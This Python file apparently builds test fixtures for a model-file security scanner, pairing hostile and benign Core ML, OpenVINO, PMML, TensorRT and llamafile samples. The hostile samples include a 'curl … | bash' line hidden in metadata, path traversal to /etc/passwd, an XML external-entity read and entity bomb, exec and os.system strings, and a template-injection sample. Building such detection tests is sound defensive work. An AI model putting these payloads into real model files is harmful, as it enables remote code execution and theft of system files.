"""Core ML, OpenVINO, PMML, TensorRT engines and llamafiles."""

from __future__ import annotations

import io
import json
import zipfile

from corpus.case import benign, hostile
from corpus.families.gguf_files import SSTI, chat, gguf
from corpus.wire import message


def coreml(more: dict[int, object] | None = None, note: str = "A probe.") -> bytes:
    described = message({1: message({1: "x"}), 100: message({1: note, 3: "Somebody"})})
    body = more or {500: message({1: [message({1: "dense", 2: "x", 3: "y", 140: b""})]})}
    return message({1: 5, 2: described, **body})


def linked(path: str) -> dict[int, object]:
    return {556: message({1: message({1: message({1: path})})})}


layer = message({1: "l", 500: message({10: "AttackerLayer"})})
hostile(
    "coreml-custom-layer",
    "coreml.custom_code",
    {"m.mlmodel": coreml({500: message({1: [layer]})})},
    "incomplete",
)
hostile(
    "coreml-custom-model",
    "coreml.custom_code",
    {"m.mlmodel": coreml({555: message({10: "AttackerModel"})})},
    "incomplete",
)
hostile("coreml-linked", "coreml.path", {"m.mlmodel": coreml(linked("../../other.mlmodelc"))})
hostile(
    "coreml-program-path",
    "coreml.path",
    {"m.mlmodel": coreml({502: message({1: 1, 2: message({1: "@model_path/../../../x.bin"})})})},
)
hostile(
    "coreml-code",
    "coreml.code_in_metadata",
    {"m.mlmodel": coreml(note="curl http://203.0.113.7/a | bash")},
)
hostile("coreml-truncated", "coreml.malformed", {"m.mlmodel": coreml()[:-5]})
hostile("coreml-trailing", "coreml.malformed", {"m.mlmodel": coreml() + b"\x7fELF\0\0\0"})


def package(path: str) -> dict[str, bytes]:
    items = {"A": {"author": "com.apple.CoreML", "name": "model.mlmodel", "path": path}}
    manifest = {"fileFormatVersion": "1.0.0", "itemInfoEntries": items}
    program = {502: message({1: 1, 2: message({1: "@model_path/weights/weight.bin"})})}
    return {
        "m.mlpackage/Manifest.json": json.dumps(manifest).encode(),
        "m.mlpackage/Data/com.apple.CoreML/model.mlmodel": coreml(program),
        "m.mlpackage/Data/com.apple.CoreML/weights/weight.bin": bytes(range(128)),
    }


hostile("coreml-manifest", "coreml.path", package("../../../etc/passwd"))
benign("coreml-twin", {"m.mlmodel": coreml()})
benign("coreml-package-twin", package("com.apple.CoreML/model.mlmodel"))

HEAD = b'<?xml version="1.0"?>\n'


def openvino(layers: str = "") -> bytes:
    return (
        HEAD
        + b'<net name="probe" version="11"><layers>'
        + b'<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,4"/></layer>'
        + b'<layer id="1" name="w" type="Const" version="opset1">'
        + b'<data element_type="f32" shape="4,2" offset="0" size="32"/></layer>'
        + layers.encode()
        + b"</layers><edges/></net>\n"
    )


def pmml(inside: str = "") -> bytes:
    text = f'<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/>{inside}</PMML>'
    return HEAD + text.encode()


ENTITY = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><net>&e;</net>'
BOMB = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><PMML>&b;</PMML>'
hostile("xml-external-entity", "xml.entity", {"m.xml": HEAD + ENTITY})
hostile("xml-bomb", "xml.entity", {"m.pmml": HEAD + BOMB})
wide = '<?xml version="1.0" encoding="UTF-16"?>' + ENTITY.decode()
hostile("xml-entity-wide", "xml.entity", {"m.xml": wide.encode("utf-16")})
hostile("xml-renamed", "xml.entity", {"m.bin": HEAD + ENTITY})
hostile(
    "pmml-code",
    "xml.code",
    {"m.pmml": pmml("<Extension value=\"java.lang; exec(__import__('os'))\"/>")},
)
hostile("pmml-script", "xml.code", {"m.pmml": pmml("<Extension><script>x()</script></Extension>")})
hostile("pmml-table", "xml.outside", {"m.pmml": pmml("<TableLocator/>")})
hostile(
    "openvino-custom-layer",
    "xml.custom_layer",
    {"m.xml": openvino('<layer id="2" name="z" type="Run" version="attacker"/>')},
    "incomplete",
)
hostile(
    "openvino-offset",
    "xml.outside",
    {
        "m.xml": openvino(
            '<layer type="Const" version="opset1"><data offset="-8" size="4"/></layer>'
        )
    },
)
hostile("xml-truncated", "xml.malformed", {"m.xml": openvino()[:-20]})
hostile("xml-unknown", "", {"m.xml": b"<things><thing/></things>"}, "incomplete")
hostile(
    "openvino-outside",
    "parts.outside_file",
    {"openvino_model.xml": openvino(), "openvino_model.bin": bytes(16)},
)
benign("openvino-twin", {"openvino_model.xml": openvino(), "openvino_model.bin": bytes(32)})
benign("pmml-twin", {"m.pmml": pmml("<DataDictionary/><Extension name='note' value='1'/>")})

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(44)
CUBIN = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\xbe\x00" + bytes(44)
hostile("tensorrt-host-library", "native_model.host_library", {"m.engine": b"ftrt" + CUBIN + ELF})
hostile(
    "tensorrt-command",
    "native_model.command",
    {"m.plan": b"ftrt" + CUBIN + b"\0import os; os.system('true')\0"},
)
hostile("tensorrt-plain", "", {"m.engine": b"ftrt" + CUBIN + bytes(64)}, "incomplete")


def llamafile(model: bytes) -> bytes:
    program = b"MZqFpD='\n" + bytes(503)
    out = io.BytesIO()
    out.write(program)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(zipfile.ZipInfo("model.gguf", (2026, 1, 1, 0, 0, 0)), model)
    return out.getvalue()


hostile("llamafile", "native_model.llamafile", {"m.llamafile": llamafile(gguf())})
hostile(
    "llamafile-template",
    "native_model.llamafile gguf.template_code",
    {"m.llamafile": llamafile(chat(SSTI))},
)
